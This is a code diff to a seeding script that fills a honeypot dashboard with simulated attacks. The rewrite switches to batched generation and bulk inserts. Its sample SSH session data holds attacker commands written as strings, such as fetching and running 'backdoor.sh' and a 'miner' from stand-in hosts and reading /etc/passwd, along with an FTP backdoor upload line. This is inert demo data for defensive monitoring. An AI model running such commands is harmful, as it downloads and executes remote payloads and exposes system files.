@@ -6,14 +6,17 @@ This script populates the database with realistic attack examples
 so that the dashboard displays meaningful data immediately after deployment.
 """
 import asyncio
+import os
 import random
 from datetime import datetime, timedelta, timezone
-from uuid import uuid4
+from typing import List, Tuple
+from uuid import UUID
 
-from sqlalchemy import select
+from sqlalchemy import literal, select
 
 from tenebrinet.core.database import AsyncSessionLocal, init_db
 from tenebrinet.core.models import Attack, Credential, Session
+from tenebrinet.core.recorder import bulk_insert
 
 
 # Sample data pools
@@ -88,117 +91,184 @@ FTP_COMMANDS = [
     "STOR backdoor.php",
 ]
 
+# Payload choices per (service, threat_type); a threat_type of None is the
+# fallback for the service. Built once so generate_payload is a lookup.
+_PAYLOAD_POOLS = {
+    ("http", "sql_injection"): tuple(HTTP_PAYLOADS[:4]),
+    ("http", "command_injection"): tuple(HTTP_PAYLOADS[4:6]),
+    ("http", "path_traversal"): (HTTP_PAYLOADS[3], HTTP_PAYLOADS[7]),
+    ("http", None): tuple(HTTP_PAYLOADS),
+    ("ftp", None): tuple(FTP_COMMANDS),
+    ("ssh", None): tuple(
+        f"SSH-2.0-OpenSSH_{version}"
+        for version in ("7.4", "7.9", "8.0", "8.2")
+    ),
+}
+
+
+def bulk_uuid4(count: int) -> List[UUID]:
+    """
+    Generate random (version 4) UUIDs from a single entropy read.
+
+    Args:
+        count: Number of UUIDs to generate
+
+    Returns:
+        List of ``count`` UUIDs
+    """
+    buf = os.urandom(16 * count)
+    return [
+        UUID(bytes=buf[i:i + 16], version=4)
+        for i in range(0, len(buf), 16)
+    ]
+
+
+def generate_sample_rows(
+    num_attacks: int,
+) -> Tuple[List[dict], List[dict], List[dict]]:
+    """
+    Build sample attack, credential and session rows as plain dicts.
+
+    Args:
+        num_attacks: Number of attack rows to build
+
+    Returns:
+        Tuple of (attack_rows, credential_rows, session_rows)
+    """
+    # Generate attacks over the past 7 days
+    now = datetime.now(timezone.utc)
+    start_time = now - timedelta(days=7)
+
+    # Draw every per-attack column in one batched call each
+    offsets = random.choices(range(7 * 24 * 60 * 60 + 1), k=num_attacks)
+    ips = random.choices(ATTACKER_IPS, k=num_attacks)
+    countries = random.choices(COUNTRIES, k=num_attacks)
+    services = random.choices(SERVICES, k=num_attacks)
+    # Weighted distribution: more brute-force attacks
+    threat_types = random.choices(
+        THREAT_TYPES, weights=[40, 20, 15, 10, 10, 5], k=num_attacks
+    )
+
+    attack_rows = []
+    credential_rows = []
+    session_rows = []
+
+    # Client-side IDs so dependent rows can reference them
+    attack_ids = bulk_uuid4(num_attacks)
+
+    for attack_id, random_seconds, ip, country, service, threat_type in zip(
+        attack_ids, offsets, ips, countries, services, threat_types
+    ):
+        # Random timestamp within the past week
+        timestamp = start_time + timedelta(seconds=random_seconds)
+
+        # Confidence score (higher for common attack types)
+        if threat_type in ("credential_attack", "sql_injection"):
+            confidence = 0.85 + random.random() * 0.14
+        else:
+            confidence = 0.65 + random.random() * 0.25
+
+        attack_rows.append(
+            {
+                "id": attack_id,
+                "timestamp": timestamp,
+                "ip": ip,
+                "service": service,
+                "threat_type": threat_type,
+                "confidence": confidence,
+                "country": country,
+                "payload": generate_payload(service, threat_type),
+            }
+        )
+
+        # Add credentials for SSH attacks
+        if service == "ssh" and threat_type == "credential_attack":
+            num_attempts = random.randint(1, 5)
+            for username, password in zip(
+                random.choices(SSH_USERNAMES, k=num_attempts),
+                random.choices(SSH_PASSWORDS, k=num_attempts),
+            ):
+                credential_rows.append(
+                    {
+                        "attack_id": attack_id,
+                        "username": username,
+                        "password": password,
+                        "success": False,
+                    }
+                )
+
+        # Add session data for successful logins (10% chance)
+        if service == "ssh" and random.random() < 0.1:
+            session_rows.append(
+                {
+                    "attack_id": attack_id,
+                    "start_time": timestamp,
+                    "end_time": timestamp
+                    + timedelta(minutes=random.randint(1, 30)),
+                    "commands": generate_session_commands(timestamp),
+                }
+            )
+
+    # Assign child IDs in one batch per table
+    for rows in (credential_rows, session_rows):
+        for row, row_id in zip(rows, bulk_uuid4(len(rows))):
+            row["id"] = row_id
+
+    return attack_rows, credential_rows, session_rows
+
 
 async def create_sample_attacks(num_attacks: int = 100) -> None:
     """
     Create sample attack records.
 
+    Rows are generated off the event loop and written with
+    :func:`tenebrinet.core.recorder.bulk_insert`, one table at a time,
+    inside a single transaction.
+
     Args:
         num_attacks: Number of attack records to create
     """
-    async with AsyncSessionLocal() as session:
-        print(f"Creating {num_attacks} sample attacks...")
-
-        # Generate attacks over the past 7 days
-        now = datetime.now(timezone.utc)
-        start_time = now - timedelta(days=7)
-
-        for i in range(num_attacks):
-            # Random timestamp within the past week
-            random_seconds = random.randint(0, 7 * 24 * 60 * 60)
-            timestamp = start_time + timedelta(seconds=random_seconds)
-
-            # Random attacker
-            ip = random.choice(ATTACKER_IPS)
-            country = random.choice(COUNTRIES)
-
-            # Random service
-            service = random.choice(SERVICES)
-
-            # Random threat type with weighted distribution
-            threat_type = random.choices(
-                THREAT_TYPES,
-                weights=[40, 20, 15, 10, 10, 5],  # More brute-force attacks
-                k=1,
-            )[0]
-
-            # Confidence score (higher for common attack types)
-            if threat_type in ["credential_attack", "sql_injection"]:
-                confidence = random.uniform(0.85, 0.99)
-            else:
-                confidence = random.uniform(0.65, 0.90)
-
-            # Create attack
-            attack = Attack(
-                id=uuid4(),
-                timestamp=timestamp,
-                ip=ip,
-                port=random.choice([2222, 8080, 2121]),
-                service=service,
-                threat_type=threat_type,
-                confidence=confidence,
-                country=country,
-                payload=generate_payload(service, threat_type),
-                raw_data={"demo": True, "generated": True},
-            )
+    print(f"Creating {num_attacks} sample attacks...")
 
-            session.add(attack)
-
-            # Add credentials for SSH attacks
-            if service == "ssh" and threat_type == "credential_attack":
-                num_attempts = random.randint(1, 5)
-                for _ in range(num_attempts):
-                    credential = Credential(
-                        id=uuid4(),
-                        attack_id=attack.id,
-                        username=random.choice(SSH_USERNAMES),
-                        password=random.choice(SSH_PASSWORDS),
-                        timestamp=timestamp
-                        + timedelta(seconds=random.randint(0, 60)),
-                    )
-                    session.add(credential)
-
-            # Add session data for successful logins (10% chance)
-            if service == "ssh" and random.random() < 0.1:
-                session_obj = Session(
-                    id=uuid4(),
-                    attack_id=attack.id,
-                    start_time=timestamp,
-                    end_time=timestamp + timedelta(minutes=random.randint(1, 30)),
-                    commands=generate_session_commands(),
-                )
-                session.add(session_obj)
+    loop = asyncio.get_running_loop()
+    attack_rows, credential_rows, session_rows = await loop.run_in_executor(
+        None, generate_sample_rows, num_attacks
+    )
 
-            # Commit in batches
-            if (i + 1) % 20 == 0:
-                await session.commit()
-                print(f"  Created {i + 1}/{num_attacks} attacks...")
+    # Parents first so foreign keys resolve
+    tables = (
+        (Attack.__table__, attack_rows),
+        (Credential.__table__, credential_rows),
+        (Session.__table__, session_rows),
+    )
 
-        # Final commit
-        await session.commit()
-        print(f"✅ Successfully created {num_attacks} sample attacks!")
+    # One transaction; bulk_insert uses COPY for large batches on asyncpg
+    async with AsyncSessionLocal() as session:
+        async with session.begin():
+            for table, rows in tables:
+                await bulk_insert(session, table, rows)
+
+    print(f"✅ Successfully created {num_attacks} sample attacks!")
 
 
 def generate_payload(service: str, threat_type: str) -> str:
     """Generate realistic payload based on service and threat type."""
-    if service == "http":
-        if threat_type == "sql_injection":
-            return random.choice(HTTP_PAYLOADS[:4])
-        elif threat_type == "command_injection":
-            return random.choice(HTTP_PAYLOADS[4:6])
-        elif threat_type == "path_traversal":
-            return random.choice(HTTP_PAYLOADS[3:4] + HTTP_PAYLOADS[7:8])
-        else:
-            return random.choice(HTTP_PAYLOADS)
-    elif service == "ftp":
-        return random.choice(FTP_COMMANDS)
-    elif service == "ssh":
-        return f"SSH-2.0-OpenSSH_{random.choice(['7.4', '7.9', '8.0', '8.2'])}"
-    return ""
+    pool = _PAYLOAD_POOLS.get((service, threat_type)) or _PAYLOAD_POOLS.get(
+        (service, None), ("",)
+    )
+    return pool[random.randrange(len(pool))]
+
 
+def generate_session_commands(start_time: datetime) -> list:
+    """
+    Generate realistic SSH session commands.
+
+    Entries follow the API's ``CommandEntry`` schema: the command name,
+    its arguments and an ISO timestamp a few seconds apart.
 
-def generate_session_commands() -> list:
-    """Generate realistic SSH session commands."""
+    Args:
+        start_time: When the session started
+    """
     command_pools = [
         ["whoami", "id", "uname -a"],
         ["ls -la", "pwd", "cat /etc/passwd"],
@@ -206,14 +276,27 @@ def generate_session_commands() -> list:
         ["wget http://malicious.com/backdoor.sh", "chmod +x backdoor.sh"],
         ["curl -O http://evil.com/miner", "./miner"],
     ]
-    return random.choice(command_pools)
+    commands = []
+    timestamp = start_time
+    for line in random.choice(command_pools):
+        timestamp += timedelta(seconds=random.randint(1, 20))
+        cmd, _, arg = line.partition(" ")
+        commands.append({
+            "cmd": cmd,
+            "arg": arg or None,
+            "timestamp": timestamp.isoformat(),
+        })
+    return commands
 
 
 async def check_existing_data() -> bool:
     """Check if database already has data."""
     async with AsyncSessionLocal() as session:
-        result = await session.execute(select(Attack).limit(1))
-        return result.scalar() is not None
+        # Probe the primary key only; no entity or column data is loaded
+        result = await session.execute(
+            select(literal(1)).select_from(Attack).limit(1)
+        )
+        return result.first() is not None
 
 
 async def main():